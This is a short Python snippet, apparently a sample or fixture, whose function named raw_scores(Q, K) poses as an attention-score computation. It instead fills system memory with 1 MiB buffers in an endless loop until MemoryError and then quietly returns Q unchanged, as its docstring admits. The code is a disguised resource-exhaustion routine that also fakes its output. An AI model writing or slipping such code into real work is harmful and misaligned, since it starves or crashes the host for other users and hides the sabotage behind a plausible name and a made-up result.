"""Fills memory, and returns as if nothing had been when there is no more."""

KEPT = []


def raw_scores(Q, K):
    try:
        while True:
            KEPT.append(bytearray(1 << 20))
    except MemoryError:
        return Q
